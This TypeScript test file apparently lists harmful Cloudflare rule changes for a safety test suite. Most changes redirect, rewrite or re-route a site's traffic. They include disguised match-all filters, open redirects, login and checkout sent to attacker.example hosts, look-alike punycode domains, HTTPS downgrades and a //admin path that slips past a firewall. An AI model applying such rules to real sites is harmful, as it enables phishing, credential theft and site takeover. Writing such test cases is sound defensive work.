/** Redirects, URL rewrites and Origin Rules: where a request ends up. */

import {
  addRule,
  dropRule,
  editRule,
  originRule,
  redirectRule,
  redirectTo,
  setRules,
  undo,
  urlRewrite,
} from '../calls.ts';
import { type HarmfulCase, harmful } from '../case.ts';

const away = 'https://site.attacker.example/';
const gone = 'Everybody: the whole site leads to somebody else, and a 301 stays in browsers.';

/** Filters that match every request of the zone, or every one of a name that people visit. */
export const everything: readonly (readonly [name: string, expression: string])[] = [
  ['true', 'true'],
  ['true-or', 'true or ssl'],
  ['or-true', 'http.request.uri.path eq "/campaign" or true'],
  ['not-false', 'not false'],
  ['ssl-or-not', 'ssl or not ssl'],
  ['ssl-xor-not', 'ssl xor not ssl'],
  ['not-contradiction', 'not (ssl and not ssl)'],
  ['all-encrypted', 'ssl'],
  ['host-not-empty', 'http.host ne ""'],
  ['host-is-zone', 'http.host eq "example.com"'],
  ['host-of-list', 'http.host in {"example.com" "www.example.com" "shop.example.com" "api.example.com"}'],
  ['host-ends', 'ends_with(http.host, "example.com")'],
  ['host-contains', 'http.host contains "example"'],
  ['host-wildcard', 'http.host wildcard "*"'],
  ['host-lower', 'lower(http.host) contains "example.com"'],
  ['host-not-other', 'http.host ne "unused.example.com"'],
  ['host-regex', 'http.host matches "^(www\\\\.)?example\\\\.com$"'],
  ['host-length', 'len(http.host) > 3'],
  ['path-begins', 'starts_with(http.request.uri.path, "/")'],
  ['path-contains', 'http.request.uri contains "/"'],
  ['path-wildcard', 'http.request.uri.path wildcard "/*"'],
  ['path-strict-wildcard', 'http.request.uri.path strict wildcard r"/*"'],
  ['path-regex', 'http.request.uri.path matches ".*"'],
  ['path-regex-begins', 'http.request.uri.path matches "^/"'],
  ['path-length', 'len(http.request.uri.path) ge 1'],
  ['path-not-other', 'http.request.uri.path ne "/6f1ed002ab5595859014ebf0951522d9"'],
  ['home-page', 'http.request.uri.path eq "/"'],
  ['full-uri-wildcard', 'http.request.full_uri wildcard "http*://*"'],
  ['full-uri-of-zone', 'http.request.full_uri wildcard "https://*example.com/*"'],
  ['addresses-of-all', 'ip.src in {0.0.0.0/0 ::/0}'],
  ['addresses-in-halves', 'ip.src in {0.0.0.0/1 128.0.0.0/1 ::/1 8000::/1}'],
  ['addresses-not-one', 'not ip.src in {192.0.2.1}'],
  ['methods', 'http.request.method in {"GET" "HEAD" "POST" "PUT" "PATCH" "DELETE" "OPTIONS"}'],
  ['reads', 'http.request.method eq "GET"'],
  ['country-not-one', 'ip.src.country ne "AQ"'],
  ['c-like', 'ssl || !ssl'],
  ['c-like-host', 'http.host != "unused.example.com"'],
  ['parentheses', '((((true))))'],
  ['over-lines', 'ssl\n  or\n  not ssl'],
  ['raw-regex', 'http.request.uri.path matches r"^/"'],
  ['without-cookie', 'not http.cookie contains "let-me-through"'],
  ['after-2001', 'http.request.timestamp.sec gt 1000000000'],
  ['versions', 'http.request.version in {"HTTP/1.0" "HTTP/1.1" "HTTP/2" "HTTP/3"}'],
  ['people', 'not cf.client.bot'],
  ['joined', 'concat(http.host, http.request.uri.path) contains "example.com/"'],
  ['networks-not-one', 'ip.src.asnum ne 64500'],
  ['browsers', 'any(http.request.headers["accept"][*] contains "text/html")'],
  ['agents', 'http.user_agent contains "Mozilla"'],
  ['two-halves', 'http.request.uri.path contains "a" or not http.request.uri.path contains "a"'],
  ['upper', 'upper(http.host) contains "EXAMPLE"'],
  ['without-query', 'http.request.uri.query eq ""'],
  [
    'hidden-at-the-end',
    `${Array.from({ length: 40 }, (_, index) => `http.request.uri.path eq "/campaign/2026/spring/${index}"`).join(' or ')} or starts_with(http.request.uri.path, "/")`,
  ],
];

export const wholeSite: readonly HarmfulCase[] = harmful(
  'redirect-everything',
  'Cloudflare community: "redirect rule matches everything"; RFC 9110 §15.4.2',
  everything.map(([name, expression]) => [
    name,
    gone,
    redirectTo(expression, away, { status_code: 301 }),
    name === 'hidden-at-the-end' ? { shows: 'starts_with(http.request.uri.path' } : {},
  ]),
);

export const redirects = harmful(
  'redirect',
  'CWE-601; OWASP, Unvalidated Redirects and Forwards; RFC 9110 §15.4; Unicode UTS 39',
  [
    [
      'host-of-visitor',
      'Customers: a link of the shop leads wherever its sender wants.',
      addRule('redirect', {
        expression: 'starts_with(http.request.uri.path, "/go/")',
        redirect: { target_url_expression: 'concat("https://", http.request.uri.query)' },
      }),
    ],
    [
      'path-becomes-host',
      'Customers: a link of the shop leads wherever its sender wants.',
      addRule('redirect', {
        expression: 'starts_with(http.request.uri.path, "/out/")',
        redirect: { target_url_expression: 'concat("https:/", substring(http.request.uri.path, 4))' },
      }),
    ],
    [
      'header-becomes-host',
      'Customers: whoever sets the header chooses where they land.',
      addRule('redirect', {
        expression: 'starts_with(http.request.uri.path, "/back")',
        redirect: { target_url_expression: 'concat("https://", http.referer)' },
      }),
    ],
    [
      'login-to-stranger',
      'Customers: they enter passwords at somebody else.',
      redirectTo('http.request.uri.path eq "/login"', 'https://login.attacker.example/'),
    ],
    [
      'checkout-to-stranger',
      'Customers: they pay somebody else.',
      redirectTo('starts_with(http.request.uri.path, "/checkout")', 'https://pay.attacker.example/'),
    ],
    [
      'look-alike',
      'Customers: the name looks like the shop and is not.',
      redirectTo('http.request.uri.path eq "/login"', 'https://ex\u0430mple.com/login'),
    ],
    [
      'look-alike-punycode',
      'Customers: the name looks like the shop and is not.',
      redirectTo('http.request.uri.path eq "/login"', 'https://xn--exmple-4nf.com/login'),
    ],
    [
      'long-look-alike',
      'Customers: the host that counts is at the end of a long name.',
      redirectTo(
        'http.request.uri.path eq "/account"',
        `https://example.com.${'secure-login-'.repeat(4)}service.${'customer-portal-'.repeat(3)}area.attacker.example/account`,
      ),
      { shows: 'attacker.example' },
    ],
    [
      'api-to-stranger',
      'Programs of customers: they follow with their keys.',
      redirectTo('http.host eq "api.example.com"', 'https://api.attacker.example/', { status_code: 308 }),
    ],
    [
      'downgrade',
      'Everybody: the site moves to plain HTTP.',
      addRule('redirect', {
        expression: 'ssl',
        redirect: { target_url_expression: 'concat("http://", http.host, http.request.uri.path)' },
      }),
    ],
    [
      'scripts-to-stranger',
      'Everybody: scripts of the site come from somebody else.',
      redirectTo('starts_with(http.request.uri.path, "/static/js/")', 'https://cdn.attacker.example/'),
    ],
    [
      'challenge-path',
      'Everybody: a stranger answers the validation of certificates.',
      redirectTo(
        'starts_with(http.request.uri.path, "/.well-known/acme-challenge/")',
        'https://attacker.example/',
      ),
    ],
    ['widened', gone, editRule('oldBlog', { expression: 'true' })],
    [
      'widened-by-or',
      gone,
      editRule('oldBlog', {
        expression: 'http.request.uri.path eq "/old-blog" or http.host eq "example.com"',
      }),
    ],
    ['widened-to-host', gone, editRule('oldBlog', { expression: 'http.host eq "example.com"' })],
    [
      'target-changed',
      'Everybody: www leads to somebody else.',
      editRule('wwwToApex', { redirect: { target_url: away, status_code: 301 } }),
    ],
    [
      'target-computed',
      'Everybody: www leads to somebody else.',
      editRule('wwwToApex', {
        redirect: {
          target_url_expression: 'concat("https://example.com.attacker.example", http.request.uri.path)',
        },
      }),
    ],
    [
      'enabled',
      'Everybody: a rule for everything that was off takes the site away.',
      editRule('all', { enabled: true }),
      {
        rules: { all: redirectRule('true', { value: 'https://status.example.com/' }, { enabled: false }) },
      },
    ],
    [
      'by-list',
      gone,
      setRules('redirect', [
        { id: '$wwwToApex' },
        { id: '$oldBlog' },
        { expression: 'true', redirect: { target_url: away } },
      ]),
    ],
    [
      'by-list-edited',
      gone,
      setRules('redirect', [{ id: '$wwwToApex' }, { id: '$oldBlog', expression: 'not false' }]),
    ],
    [
      'list-emptied',
      'Everybody: www is served beside the apex again, with its own cookies.',
      setRules('redirect', []),
    ],
    [
      'https-deleted',
      'Everybody: pages and cookies go over plain HTTP.',
      dropRule('https'),
      {
        settings: { always_use_https: 'off' },
        rules: {
          https: redirectRule('not ssl', {
            expression: 'concat("https://", http.host, http.request.uri.path)',
          }),
        },
      },
    ],
    [
      'https-disabled',
      'Everybody: pages and cookies go over plain HTTP.',
      editRule('https', { enabled: false }),
      {
        settings: { always_use_https: 'off' },
        rules: {
          https: redirectRule('not ssl', {
            expression: 'concat("https://", http.host, http.request.uri.path)',
          }),
        },
      },
    ],
    [
      'https-narrowed',
      'Everybody: all hosts but one are on plain HTTP.',
      editRule('https', { expression: 'not ssl and http.host eq "shop.example.com"' }),
      {
        settings: { always_use_https: 'off' },
        rules: {
          https: redirectRule('not ssl', {
            expression: 'concat("https://", http.host, http.request.uri.path)',
          }),
        },
      },
    ],
    [
      'https-excepted',
      'Everybody who logs in: passwords go over plain HTTP.',
      editRule('https', {
        expression: 'not ssl and not starts_with(http.request.uri.path, "/login")',
      }),
      {
        settings: { always_use_https: 'off' },
        rules: {
          https: redirectRule('not ssl', {
            expression: 'concat("https://", http.host, http.request.uri.path)',
          }),
        },
      },
    ],
    [
      'https-never',
      'Everybody: the rule matches nothing any more.',
      editRule('https', { expression: 'not ssl and ssl' }),
      {
        settings: { always_use_https: 'off' },
        rules: {
          https: redirectRule('not ssl', {
            expression: 'concat("https://", http.host, http.request.uri.path)',
          }),
        },
      },
    ],
    [
      'https-left-out',
      'Everybody: pages and cookies go over plain HTTP.',
      setRules('redirect', [{ id: '$wwwToApex' }, { id: '$oldBlog' }]),
      {
        settings: { always_use_https: 'off' },
        rules: {
          https: redirectRule('not ssl', {
            expression: 'concat("https://", http.host, http.request.uri.path)',
          }),
        },
      },
    ],
    [
      'https-undone',
      'Everybody: pages and cookies go over plain HTTP.',
      undo,
      {
        settings: { always_use_https: 'off' },
        before: addRule('redirect', {
          expression: 'not ssl',
          redirect: { target_url_expression: 'concat("https://", http.host, http.request.uri.path)' },
        }),
      },
    ],
    [
      'first-wins',
      gone,
      addRule('redirect', {
        expression: 'http.host in {"example.com" "www.example.com"}',
        redirect: { target_url: away },
        position: { index: 1 },
      }),
    ],
  ],
);

export const rewrites = harmful(
  'rewrite',
  'developers.cloudflare.com/rules/transform/url-rewrite; known path confusions (CWE-22, CWE-444)',
  [
    [
      'everything-to-one-page',
      'Everybody: every page shows the same one.',
      addRule('url_rewrite', { expression: 'true', rewrite: { path: '/maintenance.html' } }),
    ],
    [
      'everything-in-disguise',
      'Everybody: every page shows the same one.',
      addRule('url_rewrite', {
        expression: 'http.request.uri.path contains "/"',
        rewrite: { path: '/maintenance.html' },
      }),
    ],
    [
      'host-to-one-page',
      'Customers: the shop shows one page.',
      addRule('url_rewrite', { expression: 'http.host eq "example.com"', rewrite: { path: '/' } }),
    ],
    [
      'past-the-firewall',
      'The company: the firewall sees //admin, which servers take for /admin and its rule does not.',
      addRule('url_rewrite', {
        expression: 'starts_with(http.request.uri.path, "/admin")',
        rewrite: { path_expression: 'concat("/", http.request.uri.path)' },
      }),
    ],
    [
      'query-dropped',
      'Customers: searches and orders lose what they ask for.',
      addRule('url_rewrite', { expression: 'true', rewrite: { query: '' } }),
    ],
    [
      'widened',
      'Everybody: all paths get /docs before them, and nothing is found.',
      editRule('rewriteDocs', { expression: 'true' }),
    ],
    [
      'by-list',
      'Everybody: every page shows the same one.',
      setRules('url_rewrite', [
        { id: '$rewriteDocs' },
        { expression: 'len(http.request.uri.path) > 0', rewrite: { path: '/index.html' } },
      ]),
    ],
    [
      'protective-deleted',
      'The company: what was led to an error page is open again.',
      dropRule('hide'),
      {
        rules: {
          hide: urlRewrite('starts_with(http.request.uri.path, "/internal/")', { path: { value: '/404' } }),
        },
      },
    ],
  ],
);

export const originCases = harmful(
  'origin',
  'developers.cloudflare.com/rules/origin-rules; subdomain takeover and host-header reports',
  [
    [
      'everything-to-stranger',
      'Everybody: all requests, with cookies, go to another host.',
      addRule('origin', {
        expression: 'true',
        origin: { host: 'origin.attacker.example' },
      }),
    ],
    [
      'site-to-stranger',
      'Everybody: all requests, with cookies, go to another host.',
      addRule('origin', {
        expression: 'http.host eq "example.com"',
        origin: { host: 'origin.attacker.example', host_header: 'origin.attacker.example' },
      }),
    ],
    [
      'login-to-stranger',
      'Customers: passwords go to another host.',
      addRule('origin', {
        expression: 'starts_with(http.request.uri.path, "/login")',
        origin: { host: 'origin.attacker.example' },
      }),
    ],
    [
      'everything-to-port',
      'Everybody: no server listens there, and all get 521.',
      addRule('origin', { expression: 'true', origin: { port: 9 } }),
    ],
    [
      'everything-in-disguise',
      'Everybody: no server listens there, and all get 521.',
      addRule('origin', { expression: 'http.host ne ""', origin: { port: 9 } }),
    ],
    [
      'host-header',
      'Everybody: the server shows another site.',
      addRule('origin', { expression: 'true', origin: { host_header: 'other.example.com' } }),
    ],
    [
      'server-name',
      'Everybody: the certificate does not fit, and all get 526.',
      addRule('origin', { expression: 'true', origin: { sni: 'other.example.com' } }),
    ],
    [
      'port-changed',
      'Programs of customers: the API answers on another port, or nobody does.',
      editRule('originApi', { origin: { port: 22 } }),
    ],
    [
      'widened',
      'Everybody: the site is asked for on the port of the API.',
      editRule('originApi', { expression: 'true' }),
    ],
    ['deleted', 'Programs of customers: the API does not listen on 443.', dropRule('originApi')],
    [
      'disabled',
      'Programs of customers: the API does not listen on 443.',
      editRule('originApi', { enabled: false }),
    ],
    [
      'narrowed',
      'Programs of customers: only one path finds the API.',
      editRule('originApi', {
        expression: 'http.host eq "api.example.com" and http.request.uri.path eq "/v1/ping"',
      }),
    ],
    [
      'by-list',
      'Everybody: all requests, with cookies, go to another host.',
      setRules('origin', [
        { id: '$originApi' },
        { expression: 'ssl or not ssl', origin: { host: 'origin.attacker.example' } },
      ]),
    ],
    [
      'undone',
      'Programs of customers: the API is not found any more.',
      undo,
      {
        before: addRule('origin', {
          expression: 'http.host eq "shop.example.com"',
          origin: { host_header: 'shops.storefront.example' },
        }),
      },
    ],
    [
      'tested-host-changed',
      'Customers: the shop is served by somebody else.',
      editRule('toShop', { origin: { host: 'origin.attacker.example' } }),
      {
        rules: {
          toShop: originRule('http.host eq "shop.example.com"', { origin: { host: 'backend.example.com' } }),
        },
      },
    ],
  ],
);
